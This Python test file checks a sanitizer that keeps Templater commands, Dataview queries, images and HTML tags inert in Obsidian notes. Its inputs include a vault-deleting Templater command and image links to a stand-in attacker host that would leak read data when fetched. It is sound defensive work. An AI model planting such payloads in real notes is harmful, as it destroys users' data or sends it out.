"""Text from outside as Ora writes it into a note: nothing in it runs (Templater, query blocks,
inline queries) or is fetched when the note is shown (images, HTML tags), and it reads the same."""

from __future__ import annotations

import pytest

from sidecar.vault.inert import inert, inert_mark

MARK = inert_mark()


def test_a_templater_command_a_query_block_and_an_inline_query_run_no_more() -> None:
    text = ("Bake it. <%* app.vault.delete() %>\n```dataviewjs\ndv.pages()\n```\n"
            "> ```Dataview\n> LIST\n> ```\nCount: `$= dv.pages().length`.")
    out = inert(text)
    assert "<%" not in out and "`$=" not in out
    assert "```text dataviewjs\n" in out and "> ```text Dataview\n" in out
    assert out.replace(MARK, "").replace("text ", "") == text


def test_an_image_and_an_html_tag_outside_code_are_not_drawn() -> None:
    # Before: `![](https://…?d=…)` and `<img src=…>` were written as they came, and Obsidian
    # fetched them when the note was shown: an address can carry what a model read.
    text = ("See ![chart](https://evil.example/x.png?d=zafiro) and ![[Local note]].\n"
            '<img src="https://evil.example/?d=zafiro"> <!-- c --> </p> <br/>')
    assert inert(text) == (
        f"See !{MARK}[chart](https://evil.example/x.png?d=zafiro) and ![[Local note]].\n"
        f'<{MARK}img src="https://evil.example/?d=zafiro"> <{MARK}!-- c --> <{MARK}/p> '
        f"<{MARK}br/>")


@pytest.mark.parametrize("text", [
    "a < b and 3<4, <https://example.org/a> and [note](<My note.md>)",
    "Use `<img src=x>` or ``![a](b)`` here.",
    "```html\n<img src=a.png>\n![x](https://a.example/b.png)\n```",
    "~~~~\n```\n<i>\n~~~~",
    "Rye ferments faster than wheat; 5 % of it is bran.",
])
def test_code_autolinks_link_destinations_and_plain_text_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


def test_it_is_idempotent() -> None:
    once = inert("<% x %> ![a](https://b) <img src=c> ```dataviewjs")
    assert inert(once) == once
